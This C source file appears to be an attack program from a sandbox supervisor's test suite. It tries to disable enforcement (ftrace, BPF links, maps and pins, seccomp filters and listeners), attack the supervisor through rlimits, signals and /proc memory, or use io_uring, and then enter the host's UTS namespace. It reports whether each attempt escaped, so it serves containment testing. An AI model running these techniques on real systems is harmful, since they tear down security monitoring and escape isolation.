// SPDX-License-Identifier: Apache-2.0
/*
 * attack_disarm MEANS: switches off what enforces, then enters the host's UTS namespace. What
 * counts is whether it got there; a refused preparation is fine, and so is one that changes
 * nothing.
 *
 *   ftrace       sysctl kernel.ftrace_enabled=0
 *   bpf-links    every BPF link found by id: detach, update
 *   bpf-maps     every BPF map found by id: each value overwritten with zeros, then with ones, then
 * deleted bpf-progs    every BPF program by id: nothing can be done to one but to look; then a map
 * freeze pins         bpffs unmounted and its files unlinked listener     a second seccomp
 * listener, whose owner answers "continue" filter       a seccomp filter that allows the call, and
 * one with every action uring        an io_uring opens the host's namespace file and takes the
 * descriptor limits       RLIMIT_NOFILE, RLIMIT_NPROC of the parents set to nothing stop SIGSTOP,
 * SIGKILL to the parents memory       /proc/PPID/mem of the supervisor opened for writing
 */
#include "attack.h"

#include <dirent.h>
#include <linux/bpf.h>
#include <linux/filter.h>
#include <linux/io_uring.h>
#include <linux/seccomp.h>
#include <poll.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/resource.h>

static struct shared_result* result;
static int type = ns_uts;

static void enter_host(void) {
  result->result = raw(SYS_setns, outside_ns_fd(place_host, type), ns_flag[type], 0, 0, 0);
  result->inside = is_outside(place_host, type);
  result->done = 1;
}

static void note(const char* what, long value) {
  fprintf(stderr, "# %s: %s\n", what, value >= 0 ? "done" : strerrorname_np((int)-value));
}

static void ftrace(void) {
  int fd = open("/proc/sys/kernel/ftrace_enabled", O_WRONLY);
  note("ftrace_enabled=0", fd < 0 || pwrite(fd, "0", 1, 0) < 0 ? -errno : 0);
  enter_host();
  if (fd >= 0) note("ftrace_enabled=1", pwrite(fd, "1", 1, 0) < 0 ? -errno : 0);
}

/* ---- BPF by id
 * --------------------------------------------------------------------------------------- */

static long bpf(long command, union bpf_attr* attr) {
  return raw(SYS_bpf, command, (long)attr, sizeof *attr, 0, 0);
}

static int next_fd(int next_command, int fd_command, uint32_t* id) {
  union bpf_attr attr = {.start_id = *id};
  if (bpf(next_command, &attr) < 0) return -1;
  *id = attr.next_id;
  union bpf_attr by_id = {.prog_id = *id};
  /* The command is an int, of which 7.x takes a flag off (BPF_COMMON_ATTRS). */
  long fd = bpf(fd_command | 0x7eadbeef00010000, &by_id);
  if (fd < 0) fd = bpf(fd_command, &by_id);
  return fd < 0 ? -2 : (int)fd;
}

static void detach_links(void) {
  uint32_t id = 0;
  int fd, found = 0, detached = 0;
  while ((fd = next_fd(BPF_LINK_GET_NEXT_ID, BPF_LINK_GET_FD_BY_ID, &id)) != -1) {
    union bpf_attr attr = {.link_detach = {.link_fd = (uint32_t)fd}};
    found++;
    if (fd >= 0 && bpf(BPF_LINK_DETACH, &attr) == 0) detached++;
    if (fd >= 0) close(fd);
  }
  fprintf(stderr, "# %d links, %d detached\n", found, detached);
  enter_host();
}

static int spoil_map(int fd, uint32_t key_size, uint32_t value_size, int fill) {
  static char key[4096], next[4096], value[1 << 20];
  int spoilt = 0;
  if (key_size > sizeof key || value_size > sizeof value) return 0;
  memset(value, fill, sizeof value);
  for (int i = 0; i < 256; i++) {
    union bpf_attr step = {
        .map_fd = (uint32_t)fd, .key = i ? (uintptr_t)key : 0, .next_key = (uintptr_t)next};
    if (bpf(BPF_MAP_GET_NEXT_KEY, &step) < 0) break;
    memcpy(key, next, key_size);
    union bpf_attr attr = {
        .map_fd = (uint32_t)fd, .key = (uintptr_t)key, .value = (uintptr_t)value};
    if (bpf(fill == 'd' ? BPF_MAP_DELETE_ELEM : BPF_MAP_UPDATE_ELEM, &attr) == 0) spoilt++;
  }
  return spoilt;
}

static void spoil_maps(int fill) {
  uint32_t id = 0;
  int fd, found = 0, spoilt = 0;
  while ((fd = next_fd(BPF_MAP_GET_NEXT_ID, BPF_MAP_GET_FD_BY_ID, &id)) != -1) {
    struct bpf_map_info info = {0};
    union bpf_attr attr = {
        .info = {.bpf_fd = (uint32_t)fd, .info_len = sizeof info, .info = (uintptr_t)&info}};
    found++;
    if (fd >= 0 && bpf(BPF_OBJ_GET_INFO_BY_FD, &attr) == 0)
      spoilt += spoil_map(fd, info.key_size, info.value_size, fill);
    if (fd >= 0) close(fd);
  }
  fprintf(stderr, "# %d maps, %d values spoilt with %#x\n", found, spoilt, fill);
}

static void overwrite_maps(void) {
  const int fills[] = {0, 1, 0xff, 'd'};
  for (size_t i = 0; i < sizeof fills / sizeof *fills && !result->inside; i++) {
    spoil_maps(fills[i]);
    enter_host();
  }
}

static void remove_pins(void) {
  DIR* folder = opendir("/sys/fs/bpf");
  for (struct dirent* entry; folder && (entry = readdir(folder));)
    unlinkat(dirfd(folder), entry->d_name, 0);
  note("umount /sys/fs/bpf", umount2("/sys/fs/bpf", MNT_DETACH) != 0 ? -errno : 0);
  enter_host();
}

/* ---- seccomp
 * --------------------------------------------------------------------------------------------- */

static int install(struct sock_filter* code, unsigned short length, unsigned flags) {
  struct sock_fprog program = {length, code};
  prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);
  long value = raw(SYS_seccomp, SECCOMP_SET_MODE_FILTER, flags, (long)&program, 0, 0);
  return (int)value;
}

static void answer_continue(int listener) {
  struct seccomp_notif request = {0};
  struct pollfd at = {.fd = listener, .events = POLLIN};
  if (poll(&at, 1, 2000) != 1 || ioctl(listener, SECCOMP_IOCTL_NOTIF_RECV, &request) != 0) return;
  struct seccomp_notif_resp response = {.id = request.id,
                                        .flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE};
  ioctl(listener, SECCOMP_IOCTL_NOTIF_SEND, &response);
}

/* The child installs the filter and calls; its parent, which took the listener, says "continue". */
static void second_listener(void) {
  struct sock_filter code[] = {
      BPF_STMT(BPF_LD | BPF_W | BPF_ABS, 0),
      BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_setns, 0, 1),
      BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_USER_NOTIF),
      BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
  };
  int listener = install(code, 4, SECCOMP_FILTER_FLAG_NEW_LISTENER);
  note("second listener", listener);
  pid_t pid = fork();
  if (pid == 0) {
    enter_host();
    _exit(0);
  }
  if (listener >= 0) answer_continue(listener);
  waitpid(pid, NULL, 0);
}

static void permissive_filter(void) {
  struct sock_filter allow[] = {BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW)};
  struct sock_filter log[] = {BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_LOG)};
  note("filter: allow", install(allow, 1, 0));
  note("filter: log, by every thread", install(log, 1, SECCOMP_FILTER_FLAG_TSYNC));
  enter_host();
}

/* ---- io_uring
 * ---------------------------------------------------------------------------------------------- */

struct ring {
  int fd;
  struct io_uring_params params;
  char* queue;
  struct io_uring_sqe* entries;
};

static long submit(struct ring* ring, const struct io_uring_sqe* entry) {
  unsigned* tail = (unsigned*)(ring->queue + ring->params.sq_off.tail);
  unsigned mask = *(unsigned*)(ring->queue + ring->params.sq_off.ring_mask);
  unsigned* array = (unsigned*)(ring->queue + ring->params.sq_off.array);
  ring->entries[*tail & mask] = *entry;
  array[*tail & mask] = *tail & mask;
  __atomic_store_n(tail, *tail + 1, __ATOMIC_RELEASE);
  long value = raw(SYS_io_uring_enter, ring->fd, 1, 1, IORING_ENTER_GETEVENTS, 0);
  if (value < 0) return value;
  unsigned* head = (unsigned*)(ring->queue + ring->params.cq_off.head);
  unsigned cq_mask = *(unsigned*)(ring->queue + ring->params.cq_off.ring_mask);
  struct io_uring_cqe* done =
      (struct io_uring_cqe*)(ring->queue + ring->params.cq_off.cqes) + (*head & cq_mask);
  __atomic_store_n(head, *head + 1, __ATOMIC_RELEASE);
  return done->res;
}

static void by_uring(void) {
  struct ring ring = {0};
  char path[64];
  ring.fd = (int)raw(SYS_io_uring_setup, 4, (long)&ring.params, 0, 0, 0);
  note("io_uring_setup", ring.fd);
  if (ring.fd < 0) {
    result->result = ring.fd;
    result->done = 1;
    return;
  }
  ring.queue = mmap(NULL, 1 << 16, PROT_READ | PROT_WRITE, MAP_SHARED, ring.fd, IORING_OFF_SQ_RING);
  ring.entries = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, ring.fd, IORING_OFF_SQES);
  if (ring.queue == MAP_FAILED || (void*)ring.entries == MAP_FAILED) broken("ring");
  snprintf(path, sizeof path, "/proc/%s/ns/%s", getenv("HF_OUTSIDE_PID"), ns_name[type]);
  struct io_uring_sqe open_it = {
      .opcode = IORING_OP_OPENAT, .fd = AT_FDCWD, .addr = (uintptr_t)path};
  long fd = submit(&ring, &open_it);
  note("open by io_uring", fd);
  result->result = fd < 0 ? fd : raw(SYS_setns, fd, ns_flag[type], 0, 0, 0);
  result->inside = is_outside(place_host, type);
  result->done = 1;
}

/* ---- the supervisor itself
 * --------------------------------------------------------------------------------- */

/* What attack_outside started, which is holdfast, and the parent here. No other process. */
static void each_supervisor(void (*act)(pid_t)) {
  const char* pid = getenv("HF_CMD_PID");
  if (!pid || atoi(pid) == getpid()) broken("nobody supervises");
  act(atoi(pid));
  if (getppid() > 1) act(getppid());
}

static void limit(pid_t pid) {
  struct rlimit64 none = {0, 0};
  note("prlimit NOFILE", raw(SYS_prlimit64, pid, RLIMIT_NOFILE, (long)&none, 0, 0));
  note("prlimit AS", raw(SYS_prlimit64, pid, RLIMIT_AS, (long)&none, 0, 0));
}
static void signal_it(pid_t pid) {
  note("SIGSTOP", kill(pid, SIGSTOP) != 0 ? -errno : 0);
  note("SIGKILL", kill(pid, SIGKILL) != 0 ? -errno : 0);
}
static void open_memory(pid_t pid) {
  char path[64];
  snprintf(path, sizeof path, "/proc/%d/mem", pid);
  int fd = open(path, O_RDWR);
  note("open memory", fd < 0 ? -errno : 0);
  if (fd >= 0) finish(exit_escaped, "escaped", "the supervisor's memory is open");
}

static void starve(void) {
  each_supervisor(limit);
  enter_host();
}
static void stop(void) {
  each_supervisor(signal_it);
  enter_host();
}
static void memory(void) {
  each_supervisor(open_memory);
  enter_host();
}

static const struct {
  const char* name;
  void (*run)(void);
} means[] = {
    {"ftrace", ftrace},
    {"bpf-links", detach_links},
    {"bpf-maps", overwrite_maps},
    {"pins", remove_pins},
    {"listener", second_listener},
    {"filter", permissive_filter},
    {"uring", by_uring},
    {"limits", starve},
    {"stop", stop},
    {"memory", memory},
};

int main(int argc, char** argv) {
  result = new_shared_result();
  for (size_t i = 0; argc == 2 && i < sizeof means / sizeof *means; i++) {
    if (strcmp(means[i].name, argv[1]) != 0) continue;
    means[i].run();
    report(result, 0);
  }
  fprintf(stderr, "usage: attack_disarm MEANS\n");
  return exit_usage;
}
